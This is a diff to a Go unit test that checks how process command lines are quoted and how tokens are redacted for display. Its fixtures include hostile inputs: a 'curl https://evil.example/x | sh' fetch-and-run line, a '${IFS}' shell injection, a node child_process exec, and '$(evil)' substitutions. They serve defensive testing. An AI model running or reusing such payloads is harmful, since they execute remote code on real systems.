@@ -223,10 +223,10 @@ func TestLocation(t *testing.T) {
 		want string
 	}{
 		{Config{Command: process.ShellLine("python3 server.py --password=;curl${IFS}evil|sh")}, "python3 server.py --password=;curl${IFS}evil|sh"},
-		{Config{Command: process.Program("bash", "-c", "pass: ; curl https://evil.example/x | sh")}, "bash -c 'pass: ; curl https://evil.example/x | sh'"},
-		{Config{Command: process.Program("node", "-e", "token:require('child_process').exec('x')")}, `node -e 'token:require('\''child_process'\'').exec('\''x'\'')'`},
+		{Config{Command: process.CommandLine{Words: []string{"bash", "-c", "pass: ; curl https://evil.example/x | sh"}}}, "bash -c 'pass: ; curl https://evil.example/x | sh'"},
+		{Config{Command: process.CommandLine{Words: []string{"node", "-e", "token:require('child_process').exec('x')"}}}, `node -e 'token:require('\''child_process'\'').exec('\''x'\'')'`},
 		{Config{Command: process.ShellLine("npx"), Args: []string{"-y", "good@1.2.3", "--token", "good@1"}}, "npx -y good@1.2.3 --token [redacted]"},
-		{Config{Command: process.Program("a b")}, "'a b'"},
+		{Config{Command: process.CommandLine{Words: []string{"a b"}}}, "'a b'"},
 		{Config{Command: process.ShellLine("a b")}, "a b"},
 		{Config{Command: process.ShellLine("npx x"), Args: []string{"--key=k-123456", "a b"}}, "npx x --key=[redacted] 'a b'"},
 		{Config{Command: process.ShellLine("x"), Args: []string{"--token", "$(evil)"}, Env: map[string]string{"A": "$(evil)"}}, "x --token '$(evil)'"},
